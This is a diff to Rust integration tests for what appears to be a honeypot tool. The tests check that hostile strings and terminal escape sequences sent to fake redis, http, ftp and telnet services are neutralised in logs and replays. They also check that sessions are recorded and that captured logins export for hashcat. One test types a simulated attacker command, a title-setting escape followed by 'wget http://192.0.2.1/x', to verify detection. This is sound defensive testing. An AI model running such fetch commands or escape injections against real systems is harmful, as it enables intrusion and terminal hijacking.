@@ -7,7 +7,8 @@ use std::time::Duration;
 
 use serde_json::Value;
 
-use crate::common::{World, eventually};
+use crate::common::hostile::HOSTILE;
+use crate::common::{World, eventually, tool};
 
 fn deployed(general: &str) -> World {
     let world = World::new();
@@ -91,40 +92,224 @@ fn filters_narrow_and_follow_follows() {
     assert!(table.contains("SET follow me") || table.contains("follow"), "{table}");
 }
 
-#[test]
-fn hostile_bytes_reach_neither_terminal_nor_line() {
-    let world = deployed("");
-    let hostile =
-        b"\x1b]52;c;aGk=\x07 \x1b[2J \r\n{\"decky\":\"forged\"} \xff\xfe \xc2\x9b31m \xe2\x80\xae \\x41";
-    let mut request = format!("*3\r\n$3\r\nSET\r\n$1\r\nk\r\n${}\r\n", hostile.len()).into_bytes();
-    request.extend_from_slice(hostile);
-    request.extend_from_slice(b"\r\n");
-    talk(&world, "b", 6379, &request);
-    talk(&world, "a", 80, b"GET /\x1b[31mred\r\nHost: a\r\nX: \x00\x9b\r\n\r\n");
-    eventually("the command", || events(&world, &["--kind", "command"]).pop());
-    let clean = |text: &str| {
-        text.chars().all(|c| {
-            c == '\n'
-                || !(c.is_control()
-                    || ('\u{80}'..'\u{a0}').contains(&c)
-                    || ('\u{202a}'..'\u{202e}').contains(&c))
-        })
-    };
-    let mut stored = String::new();
-    for entry in std::fs::read_dir(world.state().join("events")).unwrap() {
-        let path = entry.unwrap().path();
-        if path.extension().is_some_and(|e| e == "jsonl") {
-            stored.push_str(&String::from_utf8(std::fs::read(path).unwrap()).unwrap());
+/// Sends each piece, then waits a moment for an answer to it.
+fn say(ip: &str, port: u16, pieces: &[&[u8]]) {
+    let mut stream = TcpStream::connect((ip, port)).unwrap();
+    stream.set_read_timeout(Some(Duration::from_millis(100))).unwrap();
+    let mut got = vec![0u8; 8192];
+    for piece in pieces {
+        if stream.write_all(piece).is_err() {
+            break;
         }
+        let _ = stream.read(&mut got);
     }
-    assert!(clean(&stored), "{stored:?}");
-    for line in stored.lines() {
-        let value: Value = serde_json::from_str(line).unwrap();
-        assert_ne!(value["decky"], "forged");
+}
+
+/// Logs in over telnet as a client without options, then types each line once the prompt is there.
+fn type_over_telnet(ip: &str, port: u16, lines: &[Vec<u8>]) {
+    let mut stream = TcpStream::connect((ip, port)).unwrap();
+    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
+    let until = |end: &[u8], stream: &mut TcpStream| {
+        let (mut all, mut got) = (Vec::new(), [0u8; 4096]);
+        while !all.windows(end.len()).any(|w| w == end) {
+            match stream.read(&mut got) {
+                Ok(n) if n > 0 => all.extend_from_slice(&got[..n]),
+                _ => return,
+            }
+        }
+    };
+    until(b"login: ", &mut stream);
+    stream.write_all(b"root\r\n").unwrap();
+    until(b"Password: ", &mut stream);
+    stream.write_all(b"x\r\n").unwrap();
+    until(b"# ", &mut stream);
+    for line in lines {
+        stream.write_all(&[line, &b"\r\n"[..]].concat()).unwrap();
+        until(b"# ", &mut stream);
     }
-    for form in ["table", "wide"] {
-        assert!(clean(&world.run(&["events", "-o", form]).ok()));
+    stream.write_all(b"\x03exit\r\n").unwrap();
+    until(b"never", &mut stream);
+}
+
+fn command(words: &[&[u8]]) -> Vec<u8> {
+    let mut out = format!("*{}\r\n", words.len()).into_bytes();
+    for word in words {
+        out.extend_from_slice(format!("${}\r\n", word.len()).as_bytes());
+        out.extend_from_slice(word);
+        out.extend_from_slice(b"\r\n");
     }
+    out
+}
+
+fn raw(event: &Value, name: &str) -> Vec<u8> {
+    use base64::Engine as _;
+    match event[format!("{name}_b64")].as_str() {
+        Some(text) => base64::engine::general_purpose::STANDARD.decode(text).unwrap(),
+        None => event[name].as_str().unwrap_or_default().as_bytes().to_vec(),
+    }
+}
+
+#[test]
+fn hostile_strings_reach_neither_terminal_nor_line_nor_log() {
+    assert!(HOSTILE.len() >= 100);
+    let receiver = UdpSocket::bind("127.0.0.1:0").unwrap();
+    receiver.set_read_timeout(Some(Duration::from_millis(1500))).unwrap();
+    let world = World::new();
+    let target = receiver.local_addr().unwrap().port();
+    // A decky a service: each source has so many events a minute at each.
+    let file = world.fleet(
+        "f.ini",
+        "[r]\nservices = redis\n[h]\nservices = http\n[f]\nservices = ftp\n[t]\nservices = telnet\n[t.telnet]\naccept = all\n",
+    );
+    let text = std::fs::read_to_string(&file).unwrap();
+    std::fs::write(
+        &file,
+        text.replacen("[general]\n", &format!("[general]\nlog_target = udp://127.0.0.1:{target}\n"), 1),
+    )
+    .unwrap();
+    world.run(&["deploy", file.to_str().unwrap()]).ok();
+    let log = std::thread::spawn(move || {
+        let mut buffer = vec![0u8; 65_536];
+        let mut messages = 0;
+        while let Ok(got) = receiver.recv(&mut buffer) {
+            let message = &buffer[..got];
+            assert!(
+                message.iter().all(|b| matches!(b, b' '..=b'~')),
+                "{:?}",
+                String::from_utf8_lossy(message)
+            );
+            let text = String::from_utf8_lossy(message).into_owned();
+            let parsed = syslog_loose::parse_message(&text, syslog_loose::Variant::RFC5424);
+            assert!(["r", "h", "f", "t"].contains(&parsed.hostname.unwrap()), "{text}");
+            assert_eq!(parsed.structured_data.len(), 1, "{text}");
+            messages += 1;
+        }
+        messages
+    });
+    let at = |name: &str| decky_ip(&world, name);
+    let (r, h, f, t) = (at("r"), at("h"), at("f"), at("t"));
+    let off = world.offset;
+    let redis = |text: &[u8]| {
+        say(&r, off + 6379, &[&command(&[b"AUTH", text, text]), &command(&[b"SET", text, text])]);
+    };
+    let http = |text: &[u8]| {
+        use base64::Engine as _;
+        let basic = base64::engine::general_purpose::STANDARD.encode([b"u:", text].concat());
+        let head =
+            [b"GET /", text, b"?q=", text, b" HTTP/1.1\r\nHost: ", text, b"\r\nUser-Agent: ", text].concat();
+        let tail = format!("\r\nAuthorization: Basic {basic}\r\nConnection: close\r\n\r\n");
+        say(&h, off + 80, &[&[head, tail.clone().into_bytes()].concat()]);
+        // The same where it cannot break the request.
+        say(&h, off + 80, &[format!("GET / HTTP/1.1\r\nHost: x{tail}").as_bytes()]);
+    };
+    let ftp = |text: &[u8]| {
+        let line = |word: &[u8]| [word, b" ", text, b"\r\n"].concat();
+        say(&f, off + 21, &[&line(b"USER"), &line(b"PASS"), &line(b"RETR"), &line(b"STOR")]);
+    };
+    std::thread::scope(|scope| {
+        for part in HOSTILE.chunks(16) {
+            scope.spawn(|| part.iter().for_each(|text| redis(text)));
+            scope.spawn(|| part.iter().for_each(|text| http(text)));
+            scope.spawn(|| part.iter().for_each(|text| ftp(text)));
+        }
+        scope.spawn(|| {
+            // One login, then each string as a command: recorded, and echoed into the recording. A line that
+            // leaves a quote open makes the prompt another one: no such line here.
+            let quotes = |text: &&&[u8]| !text.iter().any(|b| b"'\"`($\\\n\r<\x03\x04\x15".contains(b));
+            let lines: Vec<Vec<u8>> =
+                HOSTILE.iter().filter(quotes).map(|text| [b"echo ", *text].concat()).collect();
+            type_over_telnet(&t, off + 23, &lines);
+        });
+    });
+    let messages = log.join().unwrap();
+    let all = world.clean_events();
+    assert!(messages > all.len() / 2, "{messages} messages of {} events", all.len());
+    // And every one is there, byte by byte.
+    let of = |service: &str, kind: &str, name: &str| -> Vec<Vec<u8>> {
+        all.iter().filter(|e| e["service"] == service && e["kind"] == kind).map(|e| raw(e, name)).collect()
+    };
+    let (users, secrets, basic) =
+        (of("redis", "login", "user"), of("redis", "login", "secret"), of("http", "login", "secret"));
+    for text in HOSTILE {
+        let shown = String::from_utf8_lossy(text);
+        assert!(users.iter().any(|user| user == text), "{shown:?}");
+        assert!(secrets.iter().any(|secret| secret == text), "{shown:?}");
+        assert!(basic.iter().any(|secret| secret == text), "{shown:?}");
+    }
+}
+
+#[test]
+fn a_terminal_session_is_recorded_and_replayed() {
+    let world = World::new();
+    let file = world.fleet("f.ini", "[t]\nservices = telnet\n[t.telnet]\naccept = all\n");
+    world.run(&["deploy", file.to_str().unwrap()]).ok();
+    let ip = decky_ip(&world, "t");
+    let typed = ["id", "printf '\\033]0;owned\\007'; wget http://192.0.2.1/x"].map(|l| l.as_bytes().to_vec());
+    type_over_telnet(&ip, world.offset + 23, &typed);
+    let shell = eventually("the recording", || {
+        events(&world, &["--kind", "request"]).into_iter().find(|e| e["recording"]["id"].is_string())
+    });
+    let id = shell["recording"]["id"].as_str().unwrap();
+    let cast = eventually("its end", || {
+        Some(world.run(&["events", "--replay", id]).ok())
+            .filter(|text| text.contains("Network is unreachable"))
+    });
+    let mut lines = cast.lines().map(|line| serde_json::from_str::<Value>(line).unwrap());
+    let header = lines.next().unwrap();
+    assert_eq!((&header["version"], &header["decnet"]["decky"]), (&2.into(), &"t".into()));
+    let shown: String = lines.filter(|l| l[1] == "o").map(|l| l[2].as_str().unwrap().to_owned()).collect();
+    assert!(shown.contains("uid=0(root)") && shown.contains("\u{1b}]0;owned\u{7}"), "{shown:?}");
+    // On a terminal it may only draw.
+    let command = format!("{} events --replay {} --speed 1000", env!("CARGO_BIN_EXE_decnet"), &id[..8]);
+    let mut script = tool("script");
+    script.args(["-qec", &command, "/dev/null"]).env("DECNET_STATE_DIR", world.state()).stdin(Stdio::null());
+    let played = script.output().unwrap();
+    assert!(played.status.success());
+    let played = String::from_utf8_lossy(&played.stdout).into_owned();
+    assert!(played.contains("uid=0(root)") && !played.contains("owned\u{7}"), "{played:?}");
+    let table = world.run(&["events", "--kind", "request"]).ok();
+    assert!(table.contains(&format!("recording {id}")), "{table}");
+    let fetch = events(&world, &["--kind", "file"]).pop().unwrap();
+    assert_eq!(
+        (&fetch["action"], &fetch["url"]["original"]),
+        (&"fetch".into(), &"http://192.0.2.1/x".into())
+    );
+    world.run(&["events", "--replay", "ffffffffffffffff"]).code(1).err.clear();
+    world.run(&["events", "--replay", id, "--kind", "login"]).code(2).err.clear();
+    world.run(&["events", "--replay", id, "--speed", "0"]).code(2).err.clear();
+}
+
+#[test]
+fn logins_are_printed_for_hashcat() {
+    let world = World::new();
+    let file = world.fleet("f.ini", "[m]\nservices = mysql,redis\n[m.mysql]\nversion = 10.11.6-MariaDB\n");
+    world.run(&["deploy", file.to_str().unwrap()]).ok();
+    let ip = decky_ip(&world, "m");
+    say(&ip, world.offset + 6379, &[b"AUTH clear\r\n"]);
+    let mut mysql = tool("mysql");
+    mysql.args([
+        "-h",
+        &ip,
+        "-P",
+        &(world.offset + 3306).to_string(),
+        "-uroot",
+        "-phunter2",
+        "-e",
+        "select 1",
+    ]);
+    assert!(!mysql.output().unwrap().status.success());
+    let line = eventually("the login", || {
+        let ran = world.run(&["events", "-o", "hashcat"]);
+        assert_eq!(ran.code, 0, "{}", ran.err);
+        let both = ran.err.contains("1 login with") && ran.err.contains("mode 11200: 1 line");
+        Some(ran.out).filter(|_| both)
+    });
+    let parts: Vec<&str> = line.trim_end().strip_prefix("$mysqlna$").unwrap().split('*').collect();
+    assert!(parts.len() == 2 && parts.iter().all(|p| p.len() == 40 && hex::decode(p).is_ok()), "{line}");
+    assert_eq!(world.run(&["events", "-o", "hashcat", "--hash-mode", "11200"]).ok(), line);
+    assert_eq!(world.run(&["events", "-o", "hashcat", "--hash-mode", "5600"]).ok(), "");
+    world.run(&["events", "--hash-mode", "11200"]).code(2).err.clear();
+    world.run(&["list", "-o", "hashcat"]).code(2).err.clear();
 }
 
 #[test]
@@ -178,4 +363,20 @@ fn events_survive_the_engine() {
         events(&world, &["--kind", "command"]).into_iter().find(|e| e["action"] == "echo")
     });
     assert!(after["sequence"].as_u64() > before["sequence"].as_u64(), "{before}\n{after}");
+}
+
+#[test]
+fn events_are_written_where_recordings_cannot_be() {
+    let world = World::new();
+    std::fs::create_dir_all(world.state().join("events")).unwrap();
+    std::fs::write(world.state().join("events/sessions"), "in the way").unwrap();
+    for dir in [world.state(), world.state().join("events")] {
+        use std::os::unix::fs::PermissionsExt;
+        std::fs::set_permissions(dir, std::fs::Permissions::from_mode(0o700)).unwrap();
+    }
+    let file = world.fleet("f.ini", "[t]\nservices = telnet\n[t.telnet]\naccept = all\n");
+    world.run(&["deploy", file.to_str().unwrap()]).ok();
+    type_over_telnet(&decky_ip(&world, "t"), world.offset + 23, &[b"id".to_vec()]);
+    eventually("the command", || events(&world, &["--kind", "command"]).pop());
+    assert!(world.run(&["events", "--kind", "request"]).ok().contains("(not kept)"));
 }
